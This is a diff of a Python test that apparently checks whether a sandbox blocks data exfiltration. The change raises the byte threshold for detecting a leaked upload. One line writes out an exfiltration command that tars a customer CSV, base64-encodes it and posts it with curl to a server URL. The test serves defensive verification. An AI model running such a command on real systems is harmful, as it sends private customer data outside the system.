@@ -76,7 +76,8 @@ class Story:
         before = len(self.server.received)
         self.expect(self.shell(f"tar c customers.csv | base64 | curl -sf -H 'Expect:' --data-binary @- {url}") != 0,
                     "tar | base64 | curl of customers fails")
-        leaked = [size for size in self.server.received[before:] if size > 1000]
+        # tar ends what it could not fill: an archive without a file has 13,836 bytes in base64.
+        leaked = [size for size in self.server.received[before:] if size > 13836]
         self.expect(not leaked, f"nothing of it arrives: {leaked}")
         self.expect_blocked("network_transfer", "tar", "tar | base64 | curl")
         before = len(self.server.received)
